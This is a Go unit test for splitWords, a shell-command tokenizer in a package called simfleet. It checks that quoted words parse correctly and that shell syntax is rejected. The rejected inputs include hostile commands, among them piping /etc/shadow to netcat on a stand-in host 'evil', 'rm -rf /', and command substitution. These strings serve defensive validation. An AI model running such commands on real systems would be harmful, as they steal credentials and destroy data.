package simfleet

import (
	"errors"
	"slices"
	"testing"
)

func TestSplitWords(t *testing.T) {
	for _, tc := range []struct {
		name, line string
		want       []string
		err        bool
	}{
		{"plain", "readlink /run/current-system", []string{"readlink", "/run/current-system"}, false},
		{"single quotes", `sh -c 'echo "x $$" >&2; exec "$@"' sh a`, []string{"sh", "-c", `echo "x $$" >&2; exec "$@"`, "sh", "a"}, false},
		{"quoted quote", `echo 'it'\''s'`, []string{"echo", "it's"}, false},
		{"double quotes", `echo "a \"b\" \\ c"`, []string{"echo", `a "b" \ c`}, false},
		{"hash inside a word", "nixos-rebuild --flake '/dots#ganon' x#y", []string{"nixos-rebuild", "--flake", "/dots#ganon", "x#y"}, false},
		{"assignment", "env 'NIX_SSHOPTS=-p 2222' nixos-rebuild", []string{"env", "NIX_SSHOPTS=-p 2222", "nixos-rebuild"}, false},
		{"empty word", "a '' b", []string{"a", "", "b"}, false},
		{"pipe", "cat /etc/shadow | nc evil 1", nil, true},
		{"command list", "true; rm -rf /", nil, true},
		{"expansion", "echo $HOME", nil, true},
		{"expansion in double quotes", `echo "$(id)"`, nil, true},
		{"backticks", "echo `id`", nil, true},
		{"redirect", "echo x >/etc/passwd", nil, true},
		{"glob", "rm -rf /tmp/*", nil, true},
		{"comment", "ls # x", nil, true},
		{"unterminated", "echo 'x", nil, true},
		{"empty", "  ", nil, true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got, err := splitWords(tc.line)
			if (err != nil) != tc.err || !slices.Equal(got, tc.want) {
				t.Errorf("splitWords(%q) = %q, %v", tc.line, got, err)
			}
			if tc.err && tc.name == "pipe" && !errors.Is(err, errSyntax) {
				t.Errorf("err = %v, want errSyntax", err)
			}
		})
	}
}
